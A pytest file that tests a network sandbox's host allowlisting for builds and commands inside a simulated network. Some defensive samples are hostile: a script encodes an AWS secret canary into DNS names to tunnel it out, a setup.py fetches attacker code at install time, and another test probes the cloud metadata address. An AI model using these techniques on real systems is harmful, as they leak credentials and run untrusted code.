"""What a build or a command is allowed of the network: a host by its name, and nothing else that may stand at the same address.

The outside is a network namespace in which every address answers.  The programs speak for themselves (raw sockets, no library's idea of a host), with the shim, without
it, and statically linked; judged at the tests' resolver and sinks.  What tries to get further by way of one is in test_fronting.py."""
from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from conftest import USERS
from lib import packages
from lib.fakenet import in_netns
from lib.procs import wait_for

HOST, PUBLIC = "files.test", "203.0.113.10"

# Connects to each of argv[1:], a JSON object, and sends its bytes: what became of it.
TALK = r"""
import json, socket, ssl, sys
def hello(name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context, name
def talk(to, port, send="", tls=None, address=None):
    try:
        s = socket.create_connection((address or to, port), 8)
    except OSError as e:
        return "no connection: " + type(e).__name__
    try:
        if tls is not None:
            context, name = hello(tls)
            s = context.wrap_socket(s, server_hostname=name or None)
        s.sendall(send.encode())
        got = s.recv(9999)
        return got.decode("latin-1")[:40] if got else "closed"
    except OSError as e:
        return "lost: " + type(e).__name__
print(json.dumps([talk(**json.loads(a)) for a in sys.argv[1:]]))
"""
# The same of one host, for static linking: HOST PORT TEXT.
STATIC = r"""
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	struct addrinfo hints, *list = 0;
	char got[100];
	memset(&hints, 0, sizeof hints);
	hints.ai_socktype = SOCK_STREAM;
	if (getaddrinfo(argv[1], argv[2], &hints, &list))
		return puts("no name"), 0;
	for (struct addrinfo *ai = list; ai; ai = ai->ai_next) {
		int s = socket(ai->ai_family, SOCK_STREAM, 0);
		if (connect(s, ai->ai_addr, ai->ai_addrlen) == 0) {
			write(s, argv[3], strlen(argv[3]));
			long n = read(s, got, sizeof got - 1);
			return printf("%.12s\n", n > 0 ? (got[n] = 0, got) : "closed"), 0;
		}
		close(s);
	}
	return puts("no connection"), 0;
}
"""
GET = "GET /x HTTP/1.1\r\nHost: {}\r\n\r\n"
OK = "HTTP/1.1 200 OK"


SETUP = """
import urllib.request
from setuptools import setup
try:
    got = urllib.request.urlopen("http://files.test/part", timeout=8).read().decode()
except OSError as e:
    got = "nothing"
open("pwfetches.py", "w").write("GOT = %r" % got)
setup(name="pwfetches", version="1.0", py_modules=["pwfetches"])
"""


WORLDS = [*(("", u) for u in USERS), ("namespaces", "user"), ("namespaces,pidfd_getfd", "root")]


@pytest.fixture(params=WORLDS, ids=[f"{hide or 'nothing'}-{name}" for hide, name in WORLDS])
def world(request, make_world, user_named, net):
    net.clear()
    net.dns.addresses[HOST] = [PUBLIC]
    hide, name = request.param
    return make_world(user_named(name), net=net, hide=hide)


@pytest.fixture(scope="module", params=["musl", "go"])
def static(request, base):
    if request.param == "go":
        return [request.getfixturevalue("go_program"), "talk"]
    (base / "talk.c").write_text(STATIC)
    subprocess.run(["musl-gcc", "-static", "-O1", "-o", base / "talk-static", base / "talk.c"], check=True, timeout=60)
    return [base / "talk-static"]


def run(world, options, *talks, python=("/usr/bin/python3", "-I"), env=None):
    result = world.guarded(["--on-violation", "deny", *options, "run", "--", *python, "-c", TALK, *map(json.dumps, talks)], env, timeout=60)
    assert result.out.startswith("["), str(result)
    return result, json.loads(result.out)


def allow(*hosts):
    return [word for host in hosts for word in ("--allow-host", host)]


def plain_streams(net):
    return [data for port, data in net.sink.streams if port == 80]


def rules(result, kind="net.connect"):
    """Of attempts: the shim explains some of them besides."""
    return [e["rule"] for e in result.of_type(kind) if "first" not in e and e["source"] == "kernel"]


def test_by_name_over_http_and_tls(world, net):
    result, got = run(world, allow(HOST), {"to": HOST, "port": 80, "send": GET.format(HOST)}, {"to": HOST, "port": 443, "tls": HOST, "send": GET.format(HOST)})
    assert [g[:15] for g in got] == [OK, OK], str(result)
    assert len(plain_streams(net)) == 1 and [name for name, _ in net.sink.requests] == [HOST], str(result)
    assert {p.destination for p in net.outside() if p.payload} == {PUBLIC}
    assert set(net.names()) == {HOST}
    assert rules(result) == ["net.connect.relayed"] * 2 and result.status == 0, str(result)
    event = result.of_type("net.connect")[0]
    assert event["severity"] == "info" and event["target"]["host"] == HOST and event["target"]["address"] == PUBLIC, event


def test_statically_linked(world, net, static):
    result = world.guarded([*allow(HOST), "run", "--", *static, HOST, "80", GET.format(HOST)], timeout=30)
    if world.hide:  # there its own resolver reaches nobody
        assert result.out == "no name\n" and net.names() == [] and net.outside() == [], str(result)
        return
    assert result.out == "HTTP/1.1 200\n", str(result)
    assert len(plain_streams(net)) == 1 and set(net.names()) == {HOST} and rules(result) == ["net.connect.relayed"], str(result)


def test_a_search_list(make_world, user, net, static):
    """A resolver of its own tries it on every name: no violation where the name itself is allowed, and no question for anybody."""
    net.clear()
    net.dns.addresses[HOST] = [PUBLIC]
    resolv = Path("/etc/netns", net.host_ns, "resolv.conf")
    before = resolv.read_text()
    resolv.write_text(before + "search corp.test cluster.local\noptions ndots:5\n")
    try:
        world = make_world(user, net=net)
        result = world.guarded([*allow(HOST), "run", "--", *static, HOST, "80", GET.format(HOST)], timeout=30)
        assert result.out == "HTTP/1.1 200\n" and rules(result, "net.resolve") == [] and set(net.names()) == {HOST} and result.status == 0, str(result)
        result = world.guarded([*allow(HOST), "run", "--", *static, "evil.test", "80", "x"], timeout=30)
        assert result.out == "no name\n" and "net.resolve" in rules(result, "net.resolve"), str(result)
    finally:
        resolv.write_text(before)


def test_a_private_network_that_is_listed(world, net):
    """There a name may lead, by the listed ports; to the metadata service never."""
    net.dns.addresses[HOST] = ["169.254.169.254"]
    net.dns.addresses["inner.test"] = ["10.203.0.2"]
    talks = [{"to": name, "port": 80, "send": GET.format(name)} for name in (HOST, "inner.test")]
    result, got = run(world, allow(HOST, "inner.test", "10.203.0.2:80", "169.254.0.0/16"), *talks, {"to": "inner.test", "port": 8443})
    assert got[0].startswith("no connection") and got[1].startswith(OK) and got[2] == "no connection: ConnectionRefusedError", str(result)
    assert rules(result, "net.resolve") == ["net.metadata.cloud"] and rules(result) == ["net.connect.relayed", "net.connect.port"], str(result)
    assert [port for port, _ in net.sink.streams] == [80], f"{net.sink.streams}\n{result}"


def test_in_the_hosts_file(world, net):
    """Where /etc/hosts says where an allowed host is, it is reached there."""
    hosts = Path("/etc/netns", net.host_ns, "hosts")
    hosts.write_text(f"127.0.0.1 localhost\n{PUBLIC} {HOST}\n{PUBLIC} other.test\n127.0.0.1 here.test\n")
    try:
        talks = [{"to": name, "port": 80, "send": GET.format(name)} for name in (HOST, "other.test", "here.test")]
        result, got = run(world, allow(HOST, "here.test"), *talks)
        assert got[0].startswith(OK) and [g[:13] for g in got[1:]] == ["no connection"] * 2, str(result)
        assert net.names() == [] and "net.connect.relayed" in rules(result), str(result)
    finally:
        hosts.unlink()


def test_addresses(world, net):
    talks = [{"to": "203.0.113.77", "port": 4444, "send": GET.format("any.test")}, {"to": "2001:db8:77::7", "port": 4444, "send": GET.format("any.test")},
             {"to": "203.0.114.77", "port": 4444, "send": "x"}]
    result, got = run(world, allow("203.0.113.77:4444", "[2001:db8:77::7]:4444"), *talks)
    assert got[0].startswith(OK) and got[1].startswith(OK) and got[2].startswith("no connection") and len(net.sink.streams) == 2, f"{net.sink.streams}\n{result}"


def test_opaque_by_policy(world, net):
    policy = world.logs / "policy.json"
    policy.write_text(json.dumps({"version": 1, "network": {"guest": [{"host": HOST, "port": 4444, "opaque": True}]}}))
    result, got = run(world, ["--policy", policy], {"to": HOST, "port": 4444, "send": GET.format("any.test")}, {"to": HOST, "port": 80, "send": GET.format(HOST)})
    assert got[0].startswith(OK) and len(net.sink.streams) == 1 and got[1].startswith("no connection"), f"{net.sink.streams}\n{result}"


def test_other_stand_ins(world, net):
    """Where the usual networks are in use, others can be taken; an address of the usual ones is then anybody's."""
    policy = world.write(world.work / "policy.json", json.dumps({"version": 1, "network": {"guest": [HOST, "198.18.0.7:80"], "stand-in": ["10.77.64.0/18", "fd12:3456::/64"]}}))
    net.dns.turns[HOST] = [["2001:db8::10", PUBLIC]]
    script = ("import socket\nfound = socket.getaddrinfo('files.test', 80, 0, socket.SOCK_STREAM)\nprint(sorted(f[4][0] for f in found))\n"
              "for address in [f[4] for f in found] + [('198.18.0.7', 80)]:\n    s = socket.create_connection(address[:2], 8)\n"
              "    s.sendall(b'GET /x HTTP/1.1\\r\\nHost: files.test\\r\\n\\r\\n')\n    print(s.recv(99)[:15].decode())\n")
    result = world.guarded(["--policy", policy, "run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=30)
    first, *answers = result.out.splitlines()
    assert sorted(json.loads(first.replace("'", '"'))) in (["10.77.64.1", "fd12:3456::2"], ["10.77.64.2", "fd12:3456::1"]) and answers == [OK] * 3, str(result)
    assert {p.destination for p in net.outside() if p.payload} == {PUBLIC, "2001:db8::10", "198.18.0.7"}, str(result)


def test_one_role_has_nothing_of_another(world, net):
    result, got = run(world, allow("build:" + HOST), {"to": HOST, "port": 80, "send": GET.format(HOST)})
    assert got[0].startswith("no connection") and net.names() == [], str(result)


def test_nobody_listening(world, net):
    """As without us: the error of the real address, and the next address after it."""
    net.dns.addresses[HOST] = ["203.0.113.1", PUBLIC]
    result, got = run(world, allow(HOST), {"to": HOST, "port": 81, "send": "x"}, {"to": HOST, "port": 80, "send": GET.format(HOST)})
    assert got[0] == "no connection: ConnectionRefusedError" and got[1].startswith(OK), str(result)


@pytest.mark.parametrize("options,got", [([], "nothing"), (allow("build:" + HOST), "a module of the attacker"), (allow(HOST), "nothing")], ids=["none", "build", "pip"])
def test_a_build(options, got, base, world, net, templates, distribution):
    """A package's setup.py fetches a part of it: where the option names the host for builds, and where it names it for pip alone, not."""
    folder = base / "fetches"
    packages.build_tools(folder)
    packages.sdist(folder, "pwfetches", "1.0", {"setup.py": SETUP})
    world.use_venv(templates, distribution)
    result = world.guarded([*options, "pip", "install", "--no-index", "--find-links", folder, "--no-build-isolation", "pwfetches"], timeout=60)
    assert "Successfully installed pwfetches-1.0" in result.out, str(result)
    assert got in (world.site_packages() / "pwfetches.py").read_text(), str(result)
    assert (net.names() == []) == (got == "nothing") and ("net.connect.relayed" in rules(result)) == (got != "nothing"), str(result)
    assert all(e["package"]["name"] == "pwfetches" and e["role"] == "build" for e in result.of_type("net.connect", "net.resolve")), str(result)


def test_without_pidfd_getfd_in_a_namespace(make_world, user, net):
    """Nothing leads out, and that is said."""
    net.clear()
    result, got = run(make_world(user, net=net, hide="pidfd_getfd"), allow(HOST), {"to": HOST, "port": 80, "send": GET.format(HOST)})
    assert got[0].startswith("no connection") and net.names() == [] and "pidfd_getfd" in result.of_type("net.resolve")[0]["hint"], str(result)


def test_a_secret_below_an_allowed_domain(world, net):
    """A wildcard opens a domain to questions; what holds a decoy is not asked all the same."""
    script = ("import base64, os, socket\n"
              "name = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode().strip('=').lower()[:50] + '.files.test'\n"
              "for n in (name, 'plain.files.test'):\n    try:\n        socket.getaddrinfo(n, 80)\n        print('found')\n    except OSError:\n        print('none')\n")
    result = world.guarded(["--on-violation", "deny", *allow("*.files.test"), *allow("10.203.0.0/16"), "run", "--", "/usr/bin/python3", "-I", "-c", script],
                           world.plant_canaries(), timeout=30)
    assert result.out == "none\nfound\n" and set(net.names()) == {"plain.files.test"} and rules(result, "net.resolve") == ["net.resolve.tunnel"], str(result)


# Connects to argv[1] while a signal comes 20 times a second, or after another process's socket that is deaf to the answer.
SIGNALLED = r"""
import os, signal, socket, sys, time
port = int(sys.argv[2])
if sys.argv[3] == "signals":
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
else:
    child = os.fork()
    if child == 0:
        s = socket.socket()
        s.setsockopt(socket.IPPROTO_IP, 21, 255)  # IP_MINTTL
        s.connect((sys.argv[1], port))
    time.sleep(0.6)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
s = socket.socket()
s.settimeout(20)
s.connect((sys.argv[1], port))
s.sendall(b"GET /x HTTP/1.1\r\nHost: files.test\r\n\r\n")
print(s.recv(99)[:15].decode())
"""


def slow_server(net, port):
    """Its backlog is full for a second: a connection takes longer than that."""
    def make():
        listener = socket.create_server(("", port), backlog=0)
        return listener, socket.create_connection(("127.0.0.1", port))

    def serve():
        time.sleep(1)
        listener.accept()[0].close()
        end, _ = listener.accept()
        end.recv(999)
        end.sendall(OK.encode() + b"\r\n\r\n")
        end.close()

    listener, first = in_netns(net.inet_ns, make)
    threading.Thread(target=serve, daemon=True).start()
    return listener, first


def test_a_signal_while_it_connects(make_world, user, net):
    """The socket is not left as if it went on connecting."""
    net.clear()
    net.dns.addresses[HOST] = [PUBLIC]
    held = slow_server(net, 8181)
    result = make_world(user, net=net).guarded([*allow(HOST), "run", "--", "/usr/bin/python3", "-I", "-c", SIGNALLED, HOST, "8181", "signals"], timeout=30)
    for s in held:
        s.close()
    assert result.out == OK + "\n", str(result)


def test_a_deaf_socket(make_world, user, net):
    """One that hears no answer keeps nobody else's waiting for long, nor a thread of ours."""
    net.clear()
    net.dns.addresses[HOST] = [PUBLIC]
    result = make_world(user, net=net).guarded([*allow(HOST), "run", "--", "/usr/bin/python3", "-I", "-c", SIGNALLED, HOST, "80", "deaf"], timeout=30)
    assert result.out == OK + "\n", str(result)


def test_what_was_sent_arrives(world, net):
    """A command that sends and ends at once: nothing of it is cut off, as without us."""
    script = ("import os, socket\ns = socket.create_connection(('files.test', 80), 8)\n"
              "s.sendall(b'POST / HTTP/1.1\\r\\nHost: files.test\\r\\nContent-Length: 400000\\r\\n\\r\\n' + b'x' * 399997 + b'end')\nos._exit(0)\n")
    for _ in range(5):
        net.sink.clear()
        result = world.guarded([*allow(HOST), "run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=30)
        assert result.status == 0 and wait_for(lambda: net.sink.bytes.endswith(b"end") or b"xend" in net.sink.bytes, 5), f"{len(net.sink.bytes)}\n{result}"


# Connects to argv[1] port argv[2] without waiting, and says how long that took; then a request and its answer.
UNBLOCKED = r"""
import select, socket, sys, time
s = socket.socket()
s.setblocking(False)
address = socket.gethostbyname(sys.argv[1])
begun = time.monotonic()
error = s.connect_ex((address, int(sys.argv[2])))
took = time.monotonic() - begun
select.select([], [s], [], 20)
error = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) if error in (0, 115) else error
s.settimeout(20)
try:
    if not error:
        s.sendall(b"GET /x HTTP/1.1\r\nHost: %s\r\n\r\n" % sys.argv[1].encode())
        got = s.recv(99)[:15].decode() or "closed"
    else:
        got = "error %d" % error
except OSError as e:
    got = type(e).__name__
print("at once" if took < 0.9 else "waited", got)
"""


def run_unblocked(world, port):
    return world.guarded([*allow(HOST), "run", "--", "/usr/bin/python3", "-I", "-c", UNBLOCKED, HOST, port], timeout=40)


def silent_address(net, address):
    """Nothing is heard from there, until the returned function is called."""
    net._ip("-n", net.inet_ns, "route", "add", "blackhole", address + "/32", "table", "local")
    return lambda: net._ip("-n", net.inet_ns, "route", "del", "blackhole", address + "/32", "table", "local")


def test_who_does_not_wait(world, net):
    """An event loop is not held up by a server that takes long; and it is told at once what is known at once."""
    held = slow_server(net, 8181)
    result = run_unblocked(world, "8181")
    for s in held:
        s.close()
    assert result.out == "at once " + OK + "\n" and rules(result) == ["net.connect.relayed"], str(result)
    assert run_unblocked(world, "81").out == "at once error 111\n"


def test_another_address_for_who_does_not_wait(world, net):
    """Its own attempt at the next address will not come: it is connected already."""
    net.dns.addresses[HOST] = ["203.0.113.1", PUBLIC]
    heal = silent_address(net, "203.0.113.1")
    try:
        result = run_unblocked(world, "80")
    finally:
        heal()
    assert result.out == "at once " + OK + "\n" and net.sink.streams == [(80, GET.format(HOST).encode())], str(result)


def test_a_late_refusal(world, net):
    heal = silent_address(net, PUBLIC)
    timer = threading.Timer(0.7, heal)
    timer.start()
    result = run_unblocked(world, "81")
    timer.join()
    assert result.out == "at once ConnectionResetError\n", str(result)


def test_what_was_sent_to_a_late_server_arrives(world, net):
    """The command has sent it and is gone before the outside has answered."""
    heal = silent_address(net, PUBLIC)
    timer = threading.Timer(0.6, heal)
    script = ("import os, select, socket\ns = socket.socket()\ns.setblocking(False)\ns.connect_ex((socket.gethostbyname('files.test'), 80))\nselect.select([], [s], [], 20)\n"
              "s.send(b'POST / HTTP/1.1\\r\\nHost: files.test\\r\\nContent-Length: 4\\r\\n\\r\\nlate')\nos._exit(0)\n")
    timer.start()
    result = world.guarded([*allow(HOST), "run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=30)
    timer.join()
    assert result.status == 0 and wait_for(lambda: net.sink.bytes.endswith(b"late"), 5), f"{net.sink.bytes}\n{result}"


def test_resolvers_sort_addresses(make_world, user, net):
    """A datagram socket is pointed at what they were told (RFC 6724); that says nothing of the program, elsewhere it does."""
    net.clear()
    net.dns.addresses[HOST] = [PUBLIC]
    script = ("import socket\na = socket.gethostbyname('files.test')\n"
              "for address, port in [*((a, p) for p in (0, 9, 443, 65535)), ('198.18.200.200', 9)]:\n"
              "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect_ex((address, port))\n")
    result = make_world(user, net=net).guarded(["--on-violation", "deny", *allow(HOST), "run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=30)
    assert [(e["rule"], e["target"]["address"]) for e in result.of_type("net.connect")] == [("net.outside.probe", "198.18.200.200")], str(result)


def test_more_addresses_than_anybody_needs(make_world, user, net):
    """What one asks for beyond its share it is not told, and that is written down, once; what it has it keeps."""
    net.clear()
    net.dns.addresses.update({f"n{i}.files.test": [PUBLIC] for i in range(1100)})
    script = ("import socket\nfound = 0\nfor i in range(1100):\n    try:\n        socket.gethostbyname('n%d.files.test' % i)\n        found += 1\n    except OSError:\n        pass\n"
              "s = socket.create_connection(('n5.files.test', 80), 8)\ns.sendall(b'GET /x HTTP/1.1\\r\\nHost: n5.files.test\\r\\n\\r\\n')\nprint(found, s.recv(99)[:15].decode())\n")
    result = make_world(user, net=net).guarded([*allow("*.files.test"), "run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=60)
    assert result.out == f"1024 {OK}\n", str(result)
    full = [e for e in result.of_type("net.resolve") if e["rule"] == "net.resolve.full"]
    assert 1 <= len(full) <= 4 and full[0]["target"]["host"] == "*.files.test" and full[0]["severity"] == "low" and result.status == 0, str(result)


def test_more_connections_than_anybody_needs(make_world, user, net):
    """Beyond the bounds they are refused and written down; those that are open stay so."""
    net.clear()
    net.dns.addresses[HOST] = [PUBLIC]
    script = ("import resource, socket\nresource.setrlimit(resource.RLIMIT_NOFILE, (1000, 1000))\nopen, refused = [], 0\nfor i in range(280):\n    try:\n"
              "        open.append(socket.create_connection(('files.test', 80), 8))\n    except ConnectionError:\n        refused += 1\n"
              "open[0].sendall(b'GET /x HTTP/1.1\\r\\nHost: files.test\\r\\n\\r\\n')\nprint(len(open), refused, open[0].recv(99)[:15].decode())\n")
    result = make_world(user, net=net).guarded([*allow(HOST), "run", "--", "/usr/bin/python3", "-I", "-c", script], timeout=60)
    net.settle()
    assert result.out == f"256 24 {OK}\n", str(result)
    assert "net.connect.full" in rules(result) and result.status == 0, str(result)
